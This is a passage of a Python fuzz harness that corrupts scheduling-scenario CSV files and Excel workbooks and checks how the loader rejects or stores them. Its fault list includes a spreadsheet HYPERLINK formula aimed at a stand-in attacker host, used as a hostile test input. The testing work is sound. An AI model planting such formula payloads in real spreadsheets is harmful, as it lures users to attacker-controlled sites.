                    archive.writestr(f"scenario/{name}", data)
        return buffer.getvalue()


def _case_rng(seed: int, kind: str, index: int) -> random.Random:
    return random.Random(f"shootplan-fuzz/{seed}/{kind}/{index}")


def make_csv_case(files: dict[str, str], seed: int, index: int) -> CsvCase:
    """Case ``index`` of ``seed``: the folder with one to three faults, drawn by both."""
    rng = _case_rng(seed, "csv", index)
    docs = _docs(files)
    faults: list[Fault] = []
    wanted = rng.randint(1, 3)
    for _ in range(50):
        if len(faults) == wanted:
            break
        fault = rng.choice(CSV_FAULTS)(rng, docs)
        if fault is not None:
            faults.append(fault)
    _locate(docs, faults)
    data = {name: (doc.data() if doc.lines is not None else None) for name, doc in docs.items()}
    unreadable = {name for name, doc in docs.items() if doc.unreadable}
    return CsvCase(f"{seed}:csv:{index}", data, faults, unreadable)


def _parsed_rows(data: bytes) -> dict[int, list[str]] | None:
    """``first line → cells`` of each row the csv module reads, or ``None`` if not UTF-8."""
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        return None
    reader = csv.reader(io.StringIO(text, newline=""))
    rows: dict[int, list[str]] = {}
    while True:
        first = reader.line_num + 1
        try:
            rows[first] = next(reader)
        except StopIteration:
            return rows
        except csv.Error:
            return None


def _broken(doc: Doc | None) -> bool:
    return doc is None or doc.lines is None or doc.unreadable or doc.header_damaged


def _locate(docs: dict[str, Doc], faults: list[Fault]) -> None:
    """Give each fault its final line, and drop expectations that are no longer certain.

    A line expectation holds only for the last fault on its line, in a file
    still readable whose header is whole (unless the fault is the header's),
    on a line where the csv module starts a row (not swallowed by a quote).
    """
    last_on: dict[int, Fault] = {}
    for fault in faults:
        if fault.target is not None:
            last_on[id(fault.target)] = fault
    for fault in faults:
        doc = docs[fault.file]
        if fault.target is not None:
            fault.line = doc.line_number(fault.target)
        if fault.expect == "file" and fault.target is not None and fault.line is None:
            fault.expect = None  # the damaged line was deleted after
        if fault.expect not in ("line", "quote"):
            continue
        if any(_broken(docs.get(name)) for name in fault.depends):
            fault.expect = None
            continue
        if fault.line is None or last_on.get(id(fault.target)) is not fault:
            fault.expect = None
            continue
        if fault.file == SETTINGS_FILE:
            if doc.unreadable and fault.expect == "line":
                fault.expect = "file"
            continue
        if doc.unreadable or (doc.header_damaged and fault.line != 1):
            fault.expect = None
            continue
        rows = _parsed_rows(doc.data())
        cells = None if rows is None else rows.get(fault.line)
        if cells is None:
            fault.expect = None
        elif fault.expect == "quote":
            broken = any("\n" in cell or "\r" in cell for cell in cells)
            fault.expect = "line" if broken else None


# -- reading a case and judging it ---------------------------------------------------------


@dataclass
class Outcome:
    """What reading a case gave: a scenario, problems, or a crash."""

    scenario: Scenario | None = None
    problems: tuple[Problem, ...] = ()
    crash: str | None = None

    @property
    def accepted(self) -> bool:
        return self.scenario is not None


def read_outcome(read: Callable[[], Scenario]) -> Outcome:
    """Run ``read``: a Scenario, or a ScenarioError's problems, or anything else as a crash."""
    try:
        return Outcome(scenario=read())
    except ScenarioError as error:
        if not error.problems:
            return Outcome(crash="ScenarioError with no problems")
        return Outcome(problems=error.problems)
    except Exception as error:
        frames = traceback.extract_tb(error.__traceback__)
        where = f"{Path(frames[-1].filename).name}:{frames[-1].lineno}" if frames else "?"
        return Outcome(crash=f"{type(error).__name__} at {where}: {str(error)[:300]}")


def long_messages(problems: Sequence[Problem]) -> list[str]:
    """Problems over 300 characters or on more than one line, in Chinese or English."""
    found = []
    for problem in problems:
        for lang in ("zh", "en"):
            text = problem.format(lang)
            if len(text) > MAX_MESSAGE_CHARS or len(text.splitlines()) > 1:
                found.append(f"{lang} {len(text)} chars: {text[:200]!r}")
                break
    return found


def _named(problems: Sequence[Problem], file: str, line: int | None) -> bool:
    """Whether a problem names ``file`` (at ``line``, or a count of more that may hide it)."""
    for problem in problems:
        if problem.file != file:
            continue
        if line is None or problem.row == line:
            return True
        if problem.message.startswith("…") and problem.row <= line:
            return True
    return False


def misplaced(
    faults: Sequence[Fault], problems: Sequence[Problem], label: Callable[[str], str]
) -> list[str]:
    """Faults that must be reported at their line (or file) and are not, though others are."""
    found = []
    for fault in faults:
        if fault.expect not in ("line", "file"):
            continue
        line = fault.line if fault.expect == "line" else None
        if not _named(problems, label(fault.file), line):
            found.append(f"not named at {label(fault.file)}:{line or '*'}: {fault.describe()}")
    return found


def refusable(faults: Sequence[Fault]) -> list[str]:
    """Faults that must make the case refused."""
    return [fault.describe() for fault in faults if fault.expect in ("line", "file")]


# -- what an accepted scenario must hold -------------------------------------------------------


def _norm(column: str, text: str) -> str:
    text = text.strip()
    if not text and column in BLANK_MEANS:
        return BLANK_MEANS[column]
    if column in NUMBER_COLUMNS:
        number = _whole(text)
        return text if number is None else str(number)
    if column in DATE_NAMES:
        when = _iso_date(text)
        return text if when is None else when.isoformat()
    if column in LIST_COLUMNS:
        return ";".join(
            item.strip() for item in text.replace("；", ";").split(";") if item.strip()
        )
    return text


def _rows_of(
    header: list[str], rows: Sequence[list[str]], sheet: str
) -> Counter[tuple[tuple[str, str], ...]]:
    columns = list(dict.fromkeys([*header, *SHEET_BY_NAME[sheet].columns]))
    counted: Counter[tuple[tuple[str, str], ...]] = Counter()
    for cells in rows:
        if not any(cell.strip() for cell in cells):
            continue
        row = dict(zip(header, cells, strict=False))
        counted[tuple(sorted((c, _norm(c, row.get(c, ""))) for c in columns))] += 1
    return counted


def expected_sheets(
    sheets: dict[str, tuple[list[str], list[list[str]]]],
) -> dict[str, Counter[Any]]:
    """Every non-blank row of each sheet, as normalised ``(column, text)`` tuples."""
    return {
        name: _rows_of([cell.strip() for cell in header], rows, name)
        for name, (header, rows) in sheets.items()
    }


def csv_sheets(
    files: dict[str, bytes | None],
) -> dict[str, tuple[list[str], list[list[str]]]] | None:
    """Header and rows of each CSV file as the csv module reads them (``None``: one cannot be)."""
    sheets: dict[str, tuple[list[str], list[list[str]]]] = {}
    for spec in SHEETS:
        data = files.get(f"{spec.name}.csv")
        if data is None:
            sheets[spec.name] = (list(spec.columns), [])
            continue
        rows = _parsed_rows(data)
        if rows is None:
            return None
        ordered = [rows[line] for line in sorted(rows)]
        sheets[spec.name] = (ordered[0] if ordered else [], ordered[1:])
    return sheets


def scenario_sheets(scenario: Scenario) -> dict[str, Counter[Any]]:
    """The rows the scenario holds, normalised like :func:`expected_sheets`."""
    tables = scenario_to_tables(scenario)
    return {
        name: _rows_of(
            table.columns, [[row.get(c, "") for c in table.columns] for row in table.rows], name
        )
        for name, table in tables.tables.items()
    }


def _derived_needs(expected: dict[str, Counter[Any]], scenario: Scenario) -> set[str]:
    """Titles whose needs the scenario derives from their scenes: titles with scenes and no
    title_needs row in the files (their title_needs rows are held, not lost or made up)."""
    listed = {dict(row)["title_id"] for row in expected.get("title_needs", Counter())}
    return {title.title_id for title in scenario.titles if title.scenes} - listed


def silent_losses(expected: dict[str, Counter[Any]], scenario: Scenario) -> list[str]:
    """Rows of the files the scenario lacks or holds otherwise, sheet by sheet.

    The title_needs rows a title with scenes gets from them, where the files give it none,
    are not counted as rows held otherwise (see :func:`_derived_needs`).
    """
    found = []
    held = scenario_sheets(scenario)
    derived = _derived_needs(expected, scenario)
    if derived and "title_needs" in held:
        held["title_needs"] = Counter(
            {
                row: count
                for row, count in held["title_needs"].items()
                if dict(row)["title_id"] not in derived
            }
        )
    for sheet, rows in expected.items():
        have = held.get(sheet, Counter())
        if have == rows:
            continue
        lost, extra = rows - have, have - rows
        count = f"{sum(rows.values())} rows in the file, {sum(have.values())} in the scenario"
        sample = next(iter(lost), None)
        changed = next(iter(extra), None)
        lost_row = dict(sample) if sample else "-"
        held_row = dict(changed) if changed else "-"
        found.append(f"{sheet}: {count}; lost {lost_row} → {held_row}"[:600])
    return found


def _same(a: object, b: object) -> bool:
    if isinstance(a, float) and isinstance(b, float) and math.isnan(a) and math.isnan(b):
        return True
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(_same(a[k], b[k]) for k in a)
    if isinstance(a, list) and isinstance(b, list):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b, strict=True))
    return a == b


def settings_losses(data: bytes | None, scenario: Scenario) -> list[str]:
    """Settings of scenario.toml the scenario does not hold as written."""
    if data is None:
        return ["scenario.toml deleted, yet accepted"]
    try:
        settings = tomllib.loads(data.decode("utf-8-sig"))
    except (UnicodeDecodeError, ValueError) as error:
        return [f"scenario.toml is not TOML ({error}), yet accepted"]
    if isinstance(settings.get("name"), str):
        settings["name"] = settings["name"].strip()
    settings.setdefault("targets", {})
    held: dict[str, Any] = {
        "name": scenario.name,
        "start_date": scenario.start_date,
        "days": scenario.days,
        "targets": {key: getattr(scenario.targets, key) for key in settings["targets"]},
        **scenario.settings_extra,
    }
    if "day_minutes" in settings:
        held["day_minutes"] = scenario.day_minutes
    if _same(settings, held):
        return []
    return [f"scenario.toml {settings!r:.200} held as {held!r:.200}"]


# -- storing ----------------------------------------------------------------------------------


class Store:
    """One database that accepted scenarios are saved to, loaded back from and deleted from."""

    def __init__(self, name: str, url: str, cleanup: Callable[[], None] = lambda: None) -> None:
        from scheduler.storage import ScenarioStore, get_engine

        self.name = name
        self.engine = get_engine(url)
        self.store = ScenarioStore(self.engine)
        self._cleanup = cleanup
        self.seconds = 0.0

    def problem(self, scenario: Scenario) -> str | None:
        """Why saving ``scenario`` failed or did not load back equal; ``None`` if all went well."""
        started = time.perf_counter()
        try:
            info = self.store.create(scenario)
            try:
                loaded, _version = self.store.load(info.scenario_id)
            finally:
                self.store.delete(info.scenario_id)
            if loaded != scenario:
                return f"{self.name}: loads back different"
            return None
        except Exception as error:
            first = (str(error).splitlines() or [""])[0]
            return f"{self.name}: {type(error).__name__}: {first[:300]}"
        finally:
            self.seconds += time.perf_counter() - started

    def close(self) -> None:
        self.engine.dispose()
        self._cleanup()


def sqlite_store(folder: Path) -> Store:
    return Store("sqlite", f"sqlite:///{folder / 'fuzz.db'}")


def postgres_store(url: str = POSTGRES_URL) -> Store:
    """A store in a new PostgreSQL schema of ``url``, dropped when closed.

    Raises ``sqlalchemy.exc.OperationalError`` if the server cannot be reached.
    """
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url

    admin = create_engine(url)
    schema = f"shootplan_fuzz_{uuid.uuid4().hex[:12]}"
    with admin.begin() as connection:
        connection.execute(text(f'CREATE SCHEMA "{schema}"'))
    schema_url = make_url(url).update_query_dict({"options": f"-csearch_path={schema}"})

    def drop() -> None:
        with admin.begin() as connection:
            connection.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
        admin.dispose()

    return Store("postgresql", schema_url.render_as_string(hide_password=False), drop)


# -- workbooks ---------------------------------------------------------------------------------


@dataclass
class Row:
    """One row of a sheet: cell values as openpyxl takes them; ``text`` cells forced to text."""

    cells: list[Any]
    text: set[int] = field(default_factory=set)


@dataclass
class Sheet:
    name: str
    rows: list[Row]
    merged: list[str] = field(default_factory=list)
    damaged: bool = False

    def line_number(self, target: Row) -> int | None:
        for number, row in enumerate(self.rows, start=1):
            if row is target:
                return number
        return None


def base_workbook(scenario: Scenario) -> list[Sheet]:
    """The sheets of the workbook ShootPlan writes for ``scenario``, as values."""
    from openpyxl import load_workbook

    data = scenario_to_xlsx_bytes(scenario)
    workbook = load_workbook(io.BytesIO(data))
    sheets = []
    for worksheet in workbook.worksheets:
        rows = [Row(list(values)) for values in worksheet.iter_rows(values_only=True)]
        sheets.append(Sheet(worksheet.title, rows))
    return sheets


def _copy_sheets(sheets: list[Sheet]) -> list[Sheet]:
    return [Sheet(sheet.name, [Row(list(row.cells)) for row in sheet.rows]) for sheet in sheets]


def _data_sheets(sheets: list[Sheet]) -> list[Sheet]:
    return [sheet for sheet in sheets if sheet.name in SHEET_BY_NAME and len(sheet.rows) > 1]


@dataclass
class WorkbookFault:
    """A fault in a workbook: like :class:`Fault`, on a sheet and a row."""

    kind: str
    sheet: str
    detail: str
    expect: str | None = None
    target: Row | None = None
    line: int | None = None
    depends: tuple[str, ...] = ()

    def describe(self) -> str:
        where = self.sheet if self.line is None else f"{self.sheet}:{self.line}"
        return f"{self.kind} @ {where}: {self.detail[:160]!r}"


def _workbook_cell(
    rng: random.Random, sheets: list[Sheet], wanted: Callable[[str, str], bool] | None = None
) -> tuple[Sheet, Row, int, str] | None:
    candidates = []
    for sheet in _data_sheets(sheets):
        if sheet.damaged:
            continue
        header = [str(cell or "") for cell in sheet.rows[0].cells]
        for index, column in enumerate(header):
            if column and (wanted is None or wanted(sheet.name, column)):
                candidates.append((sheet, index, column))
    if not candidates:
        return None
    sheet, index, column = rng.choice(candidates)
    rows = [row for row in sheet.rows[1:] if any(cell not in (None, "") for cell in row.cells)]
    if not rows:
        return None
    row = rng.choice(rows)
    while len(row.cells) <= index:
        row.cells.append(None)
    return sheet, row, index, column


WORKBOOK_VALUES: tuple[tuple[str, Sequence[Any], Callable[[str, str], bool] | None], ...] = (
    (
        "number",
        (-1, 0, 2**31, 10**15, 1500.5, 1e9, 1500.0, float("nan"), float("inf")),
        _is_number,
    ),
    ("number text", (HUGE_NUMBER, *OUT_OF_RANGE, *FLOAT_TEXT), _is_number),
    ("date", (datetime(9999, 12, 31), datetime(2026, 12, 1, 13, 30), date(1900, 1, 1)), None),
    ("bad date", BAD_DATES, lambda s, c: (s, c) in DATE_COLUMNS),
    ("formula", ("=1+1", '=HYPERLINK("http://evil.example/","点击")', "=A1/0"), None),
    ("formula text", FORMULAS, None),
    ("blank", (None, "", "   "), None),
    ("unknown id", UNKNOWN_IDS, lambda s, c: (s, c) in REFERENCES),
    ("long text", ("长" * 20_000, "x" * 3_000, "x" * 300), _is_text),
    ("control character", ("a\x00b", "a\x07b", "a\u2028b", "a\nb"), _is_name),
)


def _workbook_value(rng: random.Random, sheets: list[Sheet]) -> WorkbookFault | None:
    kind, values, wanted = rng.choice(WORKBOOK_VALUES)
    spot = _workbook_cell(rng, sheets, wanted)
    if spot is None:
        return None
    sheet, row, index, column = spot
    value = rng.choice(values)
    row.cells[index] = value
    if kind == "formula text":
        row.text.add(index)
    expect = _workbook_expect(sheets, sheet.name, column, value, kind)
    depends = tuple(name.removesuffix(".csv") for name in referenced_files(sheet.name, column))
    return WorkbookFault(
        kind, sheet.name, f"{column} = {value!r:.80}", expect, row, depends=depends
    )


def _workbook_expect(
    sheets: list[Sheet], sheet: str, column: str, value: Any, kind: str
) -> str | None:
    if kind == "formula":
        value = None  # openpyxl writes no cached value: the reader sees a blank cell
    if isinstance(value, float) and not math.isfinite(value):
        value = None  # openpyxl writes nan and inf as an empty number: a blank cell
    if isinstance(value, datetime | date):
        if (sheet, column) in NUMBER_MINIMUM:
            return "line"
        return None
    text = (
        ""
        if value is None
        else str(int(value) if isinstance(value, float) and value.is_integer() else value)
    )
    known: dict[tuple[str, str], set[str]] = {
        ("unavailable", "kind"): {"set", "crew", "actor", "base"}
    }
    for other in sheets:
        if other.name in SHEET_BY_NAME and other.rows:
            header = [str(cell or "") for cell in other.rows[0].cells]
            for row in other.rows[1:]:
                for name, cell in zip(header, row.cells, strict=False):
                    known.setdefault((other.name, name), set()).add(str(cell or "").strip())
    return "line" if must_refuse(sheet, column, text, known) else None


def _workbook_rows(rng: random.Random, sheets: list[Sheet]) -> WorkbookFault | None:
    """Rows swapped, deleted, repeated, or a row far below the data."""
    sheet = rng.choice(_data_sheets(sheets))
    how = rng.choice(("swap", "delete", "repeat", "far below", "blank rows"))
    if how == "swap" and len(sheet.rows) > 2:
        i, j = rng.sample(range(1, len(sheet.rows)), 2)
        sheet.rows[i], sheet.rows[j] = sheet.rows[j], sheet.rows[i]
        return WorkbookFault("swapped rows", sheet.name, f"{i + 1} and {j + 1}")
    if how == "delete":
        row = rng.choice(sheet.rows[1:])
        sheet.rows.remove(row)
        return WorkbookFault("deleted row", sheet.name, f"{row.cells!r:.80}")
    if how == "repeat":
        row = rng.choice(sheet.rows[1:])
        copy = Row(list(row.cells))
        sheet.rows.insert(sheet.rows.index(row) + 1, copy)
        expect = "line" if sheet.name in UNIQUE_ROWS else None
        return WorkbookFault("repeated row", sheet.name, f"{row.cells!r:.80}", expect, copy)
    if how == "far below":
        sheet.rows.extend(Row([]) for _ in range(rng.randint(5, 500)))
        row = Row(["多余"])
        sheet.rows.append(row)
        return WorkbookFault("row far below", sheet.name, "多余", "line", row)
    sheet.rows.extend(Row(["", None, "  "]) for _ in range(rng.randint(1, 50)))
    return WorkbookFault("blank rows below", sheet.name, "")


def _workbook_sheet(rng: random.Random, sheets: list[Sheet]) -> WorkbookFault | None:
    """A sheet deleted or renamed, a header cell renamed or removed, or cells merged."""
    sheet = rng.choice([s for s in sheets if s.rows])
    spec = SHEET_BY_NAME.get(sheet.name)
    required = sheet.name == "scenario" or (spec is not None and spec.required_file)
    how = rng.choice(("delete", "rename", "header", "merge", "merge"))
    if how == "delete":
        sheets.remove(sheet)
        return WorkbookFault("deleted sheet", sheet.name, "", "file" if required else None)
    if how == "rename":
        old = sheet.name
        sheet.name = rng.choice((old.title(), old + " ", old + "2"))
        return WorkbookFault("renamed sheet", old, sheet.name, "file" if required else None)
    if spec is None:
        return None
    if how == "header":
        header = sheet.rows[0]
        index = rng.randrange(len(header.cells))
        column = str(header.cells[index])
        header.cells[index] = rng.choice((None, f"{column}_x", column.upper()))
        sheet.damaged = True
        expect = "line" if column in spec.required else None
        return WorkbookFault("header renamed", sheet.name, column, expect, header)
    if len(sheet.rows) < 2:
        return None
    from openpyxl.utils import get_column_letter

    number = rng.randrange(2, len(sheet.rows) + 1)
    row = sheet.rows[number - 1]
    width = len(row.cells)
    if width < 2:
        return None
    first = rng.randrange(1, width)
    cells = f"{get_column_letter(first)}{number}:{get_column_letter(first + 1)}{number}"
    sheet.merged.append(cells)
    return WorkbookFault("merged cells", sheet.name, cells, None, row)


def _workbook_settings(rng: random.Random, sheets: list[Sheet]) -> WorkbookFault | None:
    """The scenario sheet: days or start_date out of bounds, nan, ``targets`` above its rows."""
    sheet = next((s for s in sheets if s.name == "scenario"), None)
    if sheet is None:
        return None
    how = rng.choice(("days", "days", "start_date", "targets", "nan", "date tag"))
    if how in ("days", "start_date"):
        value: Any = (
            rng.choice((100_000_000, 0, -3, 2**40, "31天"))
            if how == "days"
            else rng.choice((datetime(9999, 12, 1), "9999-12-01", "2026-13-01"))
        )
        for row in sheet.rows:
            if row.cells and row.cells[0] == how:
                row.cells[1] = value
                return WorkbookFault(
                    "scenario sheet", "scenario", f"{how} = {value!r}", "line", row
                )
        return None
    if how == "targets":
        at = next(
            (i for i, r in enumerate(sheet.rows) if str(r.cells[0]).startswith("targets.")), None
        )
        if at is None:
            return None
        row = Row(["targets", 5])
        sheet.rows.insert(at, row)
        return WorkbookFault(
            "scenario sheet", "scenario", "targets | 5 above targets.*", "file", row
        )
    if how == "nan":
        row = Row(["x", float("nan")])
        sheet.rows.append(row)
        # openpyxl writes nan as an empty cell, so the setting reads as blank: either outcome
        return WorkbookFault("scenario sheet", "scenario", "x | nan", None, row)
    row = Row(["meta.$date", "zzz"])
    sheet.rows.append(row)
    return WorkbookFault("scenario sheet", "scenario", "meta.$date | zzz", None, row)


WORKBOOK_FAULTS: tuple[Callable[[random.Random, list[Sheet]], WorkbookFault | None], ...] = (
    _workbook_value,
    _workbook_value,
    _workbook_value,
    _workbook_value,
    _workbook_rows,
    _workbook_sheet,
    _workbook_settings,
)


@dataclass
class WorkbookCase:
    case_id: str
    data: bytes
    faults: list[WorkbookFault]


def make_workbook_case(sheets: list[Sheet], seed: int, index: int) -> WorkbookCase:
    """Workbook case ``index`` of ``seed``: the sample's workbook with one to three faults."""
    rng = _case_rng(seed, "xlsx", index)
    sheets = _copy_sheets(sheets)
    faults: list[WorkbookFault] = []
    wanted = rng.randint(1, 3)
    for _ in range(50):
        if len(faults) == wanted:
            break
        fault = rng.choice(WORKBOOK_FAULTS)(rng, sheets)
        if fault is not None:
            faults.append(fault)
    data = _workbook_bytes(sheets, faults)
    return WorkbookCase(f"{seed}:xlsx:{index}", data, faults)


def _workbook_bytes(sheets: list[Sheet], faults: list[WorkbookFault]) -> bytes:
    """Write the sheets; faults whose values openpyxl refuses are dropped from the list."""
    from openpyxl import Workbook
    from openpyxl.utils.exceptions import IllegalCharacterError

    workbook = Workbook()
    assert workbook.active is not None
    workbook.remove(workbook.active)
    refused: set[int] = set()
    for sheet in sheets:
        worksheet = workbook.create_sheet(sheet.name)
        for number, row in enumerate(sheet.rows, start=1):
            for column, value in enumerate(row.cells, start=1):
                if value is None:
                    continue
                cell = worksheet.cell(number, column)
                try:
                    cell.value = value
                except (IllegalCharacterError, ValueError, TypeError):
                    refused.add(id(row))
                    cell.value = "?"
                if column - 1 in row.text:
                    cell.data_type = "s"
        for cells in sheet.merged:
            worksheet.merge_cells(cells)
    last_on: dict[int, WorkbookFault] = {}
    for fault in faults:
        if fault.target is not None:
            last_on[id(fault.target)] = fault
    by_name = {sheet.name: sheet for sheet in sheets}
    for fault in faults:
        found = by_name.get(fault.sheet)
        if fault.target is not None and found is not None:
            fault.line = found.line_number(fault.target)
        stale = fault.target is not None and (
            last_on.get(id(fault.target)) is not fault or fault.line is None
        )
        damaged = found is not None and found.damaged and fault.line != 1
        if fault.expect == "line" and (stale or damaged or id(fault.target) in refused):
            fault.expect = None
        merged = found.merged if found is not None and fault.line else []
        if fault.expect == "line" and any(c.endswith(f"{fault.line}") for c in merged):
            fault.expect = None
    if any(f.kind in ("deleted sheet", "renamed sheet") for f in faults):
        gone = {f.sheet for f in faults if f.kind in ("deleted sheet", "renamed sheet")}
        for fault in faults:
            if fault.sheet in gone and fault.kind not in ("deleted sheet", "renamed sheet"):
                fault.expect = None
    for fault in faults:
        relied = [by_name.get(name) for name in fault.depends]
        if any(sheet is None or sheet.damaged for sheet in relied):
            fault.expect = None  # a reference is not checked when its sheet is gone
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return (
            value.date().isoformat() if value.time() == datetime.min.time() else value.isoformat()
        )
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def workbook_sheets(data: bytes) -> dict[str, tuple[list[str], list[list[str]]]] | None:
    """Header and rows of each scenario sheet as openpyxl reads them (values, not formulas)."""
    from openpyxl import load_workbook

    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception:
        return None
    sheets: dict[str, tuple[list[str], list[list[str]]]] = {}
    try:
        for spec in SHEETS:
            if spec.name not in workbook.sheetnames:
                sheets[spec.name] = (list(spec.columns), [])
                continue
            rows = [
                [_cell_text(v) for v in values]
                for values in workbook[spec.name].iter_rows(values_only=True)
            ]
            header = rows[0] if rows else []
            while header and not header[-1]:
                header.pop()
            sheets[spec.name] = (header, rows[1:])
    except Exception:
        return None
    finally:
        workbook.close()
    return sheets


# -- running cases -----------------------------------------------------------------------------


@dataclass
class Run:
    """What one fuzz run needs: the base files, stores to save accepted scenarios to, options."""

    files: dict[str, str]
    stores: list[Store] = field(default_factory=list)
    zip_every: int = 5
    keep_accepted: bool = False
    tally: Tally = field(default_factory=Tally)
    workbook: list[Sheet] | None = None

    def fail(self, kind: str, case: str, details: list[str], faults: list[str]) -> None:
        for detail in details[:1]:
            more = f" (+{len(details) - 1} more)" if len(details) > 1 else ""
            self.tally.failures.append(Failure(kind, case, detail + more, faults))


def _judge(
    run: Run,
    case_id: str,
    outcome: Outcome,
    faults: Sequence[Fault | WorkbookFault],
    expected: dict[str, Counter[Any]] | None,
    label: Callable[[str], str],
    extra_losses: Callable[[Scenario], list[str]] = lambda scenario: [],
) -> None:
    """Count the case's outcome and every failure the oracle finds in it."""
    shown = [fault.describe() for fault in faults]
    seed = case_id.split(":")[0]
    run.tally.cases[seed] += 1
    if outcome.crash is not None:
        run.fail("crash", case_id, [outcome.crash], shown)
        return
    if outcome.scenario is None:
        run.tally.refused[seed] += 1
        run.fail("long message", case_id, long_messages(outcome.problems), shown)
        located = [fault for fault in faults if isinstance(fault, Fault)]
        sheet_faults = [fault for fault in faults if isinstance(fault, WorkbookFault)]
        run.fail("misplaced", case_id, misplaced(located, outcome.problems, label), shown)
        run.fail("misplaced", case_id, _workbook_misplaced(sheet_faults, outcome.problems), shown)
        return
    run.tally.accepted[seed] += 1
    scenario = outcome.scenario
    run.fail(
        "wrongly accepted", case_id, [f"accepted, yet {d}" for d in _refusable(faults)], shown
    )
    if expected is None:
        run.fail(
            "silent loss",
            case_id,
            ["accepted files the csv module or openpyxl cannot read"],
            shown,
        )
    else:
        run.fail(
            "silent loss",
            case_id,
            silent_losses(expected, scenario) + extra_losses(scenario),
            shown,
        )
    for store in run.stores:
        problem = store.problem(scenario)
        run.tally.stored[store.name] += 1
        if problem is not None:
            run.fail("unstorable", case_id, [problem], shown)
    if run.keep_accepted:
        run.tally.kept.append((case_id, scenario, shown))


def _refusable(faults: Sequence[Fault | WorkbookFault]) -> list[str]:
    return [fault.describe() for fault in faults if fault.expect in ("line", "file")]


def _workbook_misplaced(faults: Sequence[WorkbookFault], problems: Sequence[Problem]) -> list[str]:
    found = []
    for fault in faults:
        if fault.expect not in ("line", "file"):
            continue
        line = fault.line if fault.expect == "line" else None
        if not _named(problems, fault.sheet, line):
            found.append(f"not named at {fault.sheet}:{line or '*'}: {fault.describe()}")
    return found


def _folder_label(name: str) -> str:
    return name


def run_csv_case(run: Run, seed: int, index: int, keep: Path | None = None) -> CsvCase:
    """Make, read and judge CSV case ``index`` of ``seed`` (and, every few, its zip upload)."""
    case = make_csv_case(run.files, seed, index)
    with tempfile.TemporaryDirectory(prefix="shootplan-fuzz-") as temporary:
        folder = Path(temporary) / "scenario"
        case.write(folder)
        if keep is not None:
            case.write(keep)
        outcome = read_outcome(lambda: load_scenario(folder))
    sheets = csv_sheets(case.files)
    expected = None if sheets is None else expected_sheets(sheets)
    settings = case.files.get(SETTINGS_FILE)
    _judge(
        run,
        case.case_id,
        outcome,
        case.faults,
        expected,
        _folder_label,
        lambda scenario: settings_losses(settings, scenario),
    )
    if run.zip_every and index % run.zip_every == 0:
        uploaded = read_outcome(lambda: scenario_from_upload("", case.zip_bytes(), "case.zip"))
        differs = _upload_differs(outcome, uploaded)
        if uploaded.crash is not None:
            run.fail(
                "crash",
                case.case_id,
                [f"zip upload: {uploaded.crash}"],
                [f.describe() for f in case.faults],
            )
        else:
            run.fail(
                "long message",
                case.case_id,
                long_messages(uploaded.problems),
                [f.describe() for f in case.faults],
            )
            run.fail("upload differs", case.case_id, differs, [f.describe() for f in case.faults])
    return case


def _upload_differs(folder: Outcome, upload: Outcome) -> list[str]:
    if folder.crash is not None or upload.crash is not None:
        return []
    if folder.accepted != upload.accepted:
        said = "accepted" if folder.accepted else "refused"
        shown = [p.format() for p in (folder.problems or upload.problems)[:2]]
        return [f"folder {said}, zip {'accepted' if upload.accepted else 'refused'}: {shown}"]
    if folder.accepted:
        return [] if folder.scenario == upload.scenario else ["zip gives another scenario"]
    where = {(p.file, p.row, p.column) for p in folder.problems if p.row}
    there = {(p.file, p.row, p.column) for p in upload.problems if p.row}
    if where != there:
        return [f"folder names {sorted(where - there)[:3]}, zip {sorted(there - where)[:3]}"]
    return []


def run_workbook_case(run: Run, seed: int, index: int, keep: Path | None = None) -> WorkbookCase:
    """Make, read and judge workbook case ``index`` of ``seed``."""
    assert run.workbook is not None
    case = make_workbook_case(run.workbook, seed, index)
    with tempfile.TemporaryDirectory(prefix="shootplan-fuzz-") as temporary:
        path = Path(temporary) / "scenario.xlsx"
        path.write_bytes(case.data)
        if keep is not None:
            keep.parent.mkdir(parents=True, exist_ok=True)
            keep.with_suffix(".xlsx").write_bytes(case.data)
        outcome = read_outcome(lambda: load_scenario(path))
    sheets = workbook_sheets(case.data)
    expected = None if sheets is None else expected_sheets(sheets)
    _judge(run, case.case_id, outcome, case.faults, expected, lambda name: name)
    return case


def base_scenario(files: dict[str, str]) -> Scenario:
    """The scenario of the base files (which must be valid)."""
    with tempfile.TemporaryDirectory(prefix="shootplan-fuzz-") as temporary:
        folder = Path(temporary)
        for name, text in files.items():
            (folder / name).write_text(text, encoding="utf-8")
        return load_scenario(folder)


def fuzz(
    folder: Path,
    seeds: Sequence[int],
    csv_cases: int,
    workbook_cases: int,
    stores: Sequence[Store] = (),
    *,
    zip_every: int = 5,
    keep_accepted: bool = False,
) -> Tally:
    """Run ``csv_cases`` and ``workbook_cases`` cases in all, shared among ``seeds``."""
    files = base_files(folder)
    run = Run(files, list(stores), zip_every, keep_accepted)
    if workbook_cases:
        run.workbook = base_workbook(base_scenario(files))
    for position, seed in enumerate(seeds):
        for index in _share(csv_cases, len(seeds), position):
            run_csv_case(run, seed, index)
        for index in _share(workbook_cases, len(seeds), position):
            run_workbook_case(run, seed, index)
    return run.tally


def _share(total: int, parts: int, position: int) -> range:
    """Case numbers of one seed when ``total`` cases are shared among ``parts`` seeds."""
    return range(total * position // parts, total * (position + 1) // parts)


# -- the command -------------------------------------------------------------------------------


def _report(
    tally: Tally, seconds: float, stores: Sequence[Store], folder: str, show: int = SHOWN_PER_KIND
) -> None:
    for seed in sorted(tally.cases, key=int):
        print(
            f"seed {seed}: {tally.cases[seed]} cases, {tally.accepted[seed]} accepted, "
            f"{tally.refused[seed]} refused"
        )
    total = sum(tally.cases.values())
    print(f"\n{total} cases in {seconds:.1f} s ({seconds / max(total, 1) * 1000:.0f} ms each)")
    for store in stores:
        print(f"saved to {store.name}: {tally.stored[store.name]} in {store.seconds:.1f} s")
    print("\n| failure | cases |\n| --- | --- |")
    for kind in FAILURE_KINDS:
        cases = len({failure.case for failure in tally.of_kind(kind)})
        print(f"| {kind} | {cases} |")
